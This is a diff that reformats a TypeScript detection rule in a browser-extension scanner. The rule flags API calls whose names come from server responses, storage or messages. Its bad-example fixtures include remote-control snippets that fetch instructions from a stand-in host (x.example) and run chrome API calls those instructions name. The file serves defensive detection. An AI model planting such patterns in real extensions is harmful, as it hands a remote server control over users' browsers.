@@ -1,4 +1,16 @@
-import { apiPath, callAt, callsNamed, callsOf, constant, defsOf, listOf, Op, receiverOf, resolve, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callAt,
+  callsNamed,
+  callsOf,
+  constant,
+  defsOf,
+  listOf,
+  Op,
+  receiverOf,
+  resolve,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { isFromKnownServer, isFromServer } from './network.ts';
@@ -22,7 +34,13 @@ export const namedByData = defineRule({
     // `path.split('.').reduce((o, k) => o[k], chrome)`: the whole way is named at once.
     for (const call of few(callsNamed(script, 'reduce'))) {
       const root = apiPath(script, call.args[1] ?? 0);
-      if (root === undefined || !ROOTS.test(root) || !isFromServer(script, receiverOf(script, call)) || hasConstant(script, receiverOf(script, call))) continue;
+      if (
+        root === undefined ||
+        !ROOTS.test(root) ||
+        !isFromServer(script, receiverOf(script, call)) ||
+        hasConstant(script, receiverOf(script, call))
+      )
+        continue;
       yield hit(call.value, { severity: 'critical', message: 'A server names the function.' });
     }
     for (const value of script.calls) {
@@ -33,17 +51,37 @@ export const namedByData = defineRule({
         if (script.op[callee] === Op.index) {
           const named = apiPath(script, script.a[callee] as number);
           const key = script.b[callee] as number;
-          const root = named ?? (depth <= 1 && isFromKnownServer(script, key) && holdsBrowser(script, script.a[callee] as number) ? 'chrome' : undefined);
-          if (root !== undefined && ROOTS.test(root) && constant(script, key) === undefined && !hasConstant(script, key)) {
+          const root =
+            named ??
+            (depth <= 1 && isFromKnownServer(script, key) && holdsBrowser(script, script.a[callee] as number)
+              ? 'chrome'
+              : undefined);
+          if (
+            root !== undefined &&
+            ROOTS.test(root) &&
+            constant(script, key) === undefined &&
+            !hasConstant(script, key)
+          ) {
             if (isFromServer(script, key)) {
               yield hit(value, { severity: 'critical', message: 'A server names the function.' });
               break;
             }
             const paths = originPaths(script, key);
-            const from = ['chrome.storage.local.get', 'chrome.storage.sync.get', 'chrome.runtime.onMessage.addListener', 'chrome.runtime.onMessageExternal.addListener', 'localStorage.getItem'].find((path) => paths.has(path));
-            const heard = callsOf(script, 'addEventListener').some((call) => constant(script, call.args[0] ?? 0) === 'message') && paths.has('addEventListener');
+            const from = [
+              'chrome.storage.local.get',
+              'chrome.storage.sync.get',
+              'chrome.runtime.onMessage.addListener',
+              'chrome.runtime.onMessageExternal.addListener',
+              'localStorage.getItem',
+            ].find((path) => paths.has(path));
+            const heard =
+              callsOf(script, 'addEventListener').some((call) => constant(script, call.args[0] ?? 0) === 'message') &&
+              paths.has('addEventListener');
             if (from !== undefined || heard) {
-              yield hit(value, { message: `The name comes from ${from ?? 'a message of the page'}.`, ...(root.startsWith('chrome.') ? { severity: 'low' as const } : {}) });
+              yield hit(value, {
+                message: `The name comes from ${from ?? 'a message of the page'}.`,
+                ...(root.startsWith('chrome.') ? { severity: 'low' as const } : {}),
+              });
               break;
             }
           }
@@ -57,18 +95,38 @@ export const namedByData = defineRule({
     bad: [
       contentExample('fetch("https://x.example/c").then((r) => r.json()).then((c) => { window[c.a][c.b](c.c); });'),
       contentExample('chrome.storage.local.get("conf", ({ conf }) => { window[conf.fn](conf.arg); });'),
-      backgroundExample('const tools = { chrome, fetch, JSON }; const at = (p) => p.split(".").reduce((o, k) => o[k], tools); async function run(list) { for (const [op, ...args] of list) { const parts = op.split("."); const m = parts.pop(); const o = at(parts.join(".")); await o[m].apply(o, args); } } fetch("https://x.example/p").then((r) => r.json()).then(run);'),
-      backgroundExample('chrome.runtime.onMessageExternal.addListener((m, s, reply) => { chrome[m.space][m.name](...m.args, reply); });'),
-      backgroundExample('const call = (path, args) => path.split(".").reduce((o, k) => o[k], chrome)(...args); async function loop() { const jobs = await (await fetch("https://x.example/q")).json(); for (const j of jobs) call(j.path, j.args); } loop();'),
+      backgroundExample(
+        'const tools = { chrome, fetch, JSON }; const at = (p) => p.split(".").reduce((o, k) => o[k], tools); async function run(list) { for (const [op, ...args] of list) { const parts = op.split("."); const m = parts.pop(); const o = at(parts.join(".")); await o[m].apply(o, args); } } fetch("https://x.example/p").then((r) => r.json()).then(run);',
+      ),
+      backgroundExample(
+        'chrome.runtime.onMessageExternal.addListener((m, s, reply) => { chrome[m.space][m.name](...m.args, reply); });',
+      ),
+      backgroundExample(
+        'const call = (path, args) => path.split(".").reduce((o, k) => o[k], chrome)(...args); async function loop() { const jobs = await (await fetch("https://x.example/q")).json(); for (const j of jobs) call(j.path, j.args); } loop();',
+      ),
     ],
     good: [
-      backgroundExample('const word = "app.title".split(".").reduce((o, k) => o[k], window); fetch("https://x.example/n").then((r) => r.json()).then((n) => show(word, n));'),
-      backgroundExample('chrome.runtime.onMessage.addListener((m) => { set(m.on ? "setTitle" : "setBadgeText", m.options); }); function set(name, options) { chrome.action[name](options); }'),
-      contentExample('addEventListener("message", (e) => { const { name, seq } = e.data; window[name].callbacks.get(seq).resolve(1); });'),
-      backgroundExample('const tools = { open() {}, close() {}, api: chrome.tabs }; fetch("https://x.example/p").then((r) => r.json()).then((c) => tools[c.name](c.id));'),
-      backgroundExample('const handlers = { a() {}, b() {} }; chrome.runtime.onMessage.addListener((m) => { handlers[m.type](m); });'),
-      contentExample('const raf = window["requestAnimationFrame"] || window["webkit" + "RequestAnimationFrame"]; raf(draw); for (const k of ["scrollX", "scrollY"]) read(window[k]);'),
-      contentExample('const prefix = ["moz", "webkit"].find((p) => document[p + "Hidden"] !== undefined); document[prefix + "ExitFullscreen"]();'),
+      backgroundExample(
+        'const word = "app.title".split(".").reduce((o, k) => o[k], window); fetch("https://x.example/n").then((r) => r.json()).then((n) => show(word, n));',
+      ),
+      backgroundExample(
+        'chrome.runtime.onMessage.addListener((m) => { set(m.on ? "setTitle" : "setBadgeText", m.options); }); function set(name, options) { chrome.action[name](options); }',
+      ),
+      contentExample(
+        'addEventListener("message", (e) => { const { name, seq } = e.data; window[name].callbacks.get(seq).resolve(1); });',
+      ),
+      backgroundExample(
+        'const tools = { open() {}, close() {}, api: chrome.tabs }; fetch("https://x.example/p").then((r) => r.json()).then((c) => tools[c.name](c.id));',
+      ),
+      backgroundExample(
+        'const handlers = { a() {}, b() {} }; chrome.runtime.onMessage.addListener((m) => { handlers[m.type](m); });',
+      ),
+      contentExample(
+        'const raf = window["requestAnimationFrame"] || window["webkit" + "RequestAnimationFrame"]; raf(draw); for (const k of ["scrollX", "scrollY"]) read(window[k]);',
+      ),
+      contentExample(
+        'const prefix = ["moz", "webkit"].find((p) => document[p + "Hidden"] !== undefined); document[prefix + "ExitFullscreen"]();',
+      ),
     ],
   },
 });
@@ -96,7 +154,9 @@ function hasConstant(script: ScriptFacts, key: number): boolean {
     if (op === Op.ref) {
       queue.push(...defsOf(script, first).slice(0, 8));
       const param = usage.params.get(first);
-      if (param !== undefined) for (const call of usage.callers.get(param.fn)?.slice(0, 12) ?? []) queue.push(callAt(script, call).args[param.at] ?? 0);
+      if (param !== undefined)
+        for (const call of usage.callers.get(param.fn)?.slice(0, 12) ?? [])
+          queue.push(callAt(script, call).args[param.at] ?? 0);
     }
   }
   return false;
@@ -107,7 +167,17 @@ function holdsBrowser(script: ScriptFacts, value: number): boolean {
   for (const one of originsOf(script, value)) {
     if (script.op[one] !== Op.object) continue;
     const list = listOf(script, script.a[one] as number);
-    if (list.some((item, at) => at % 2 === 1 && /^(chrome|window|self|globalThis)$/.test(apiPath(script, item) ?? (script.op[item] === Op.global ? (script.strings[script.a[item] as number] as string) : '')))) return true;
+    if (
+      list.some(
+        (item, at) =>
+          at % 2 === 1 &&
+          /^(chrome|window|self|globalThis)$/.test(
+            apiPath(script, item) ??
+              (script.op[item] === Op.global ? (script.strings[script.a[item] as number] as string) : ''),
+          ),
+      )
+    )
+      return true;
   }
   return false;
 }
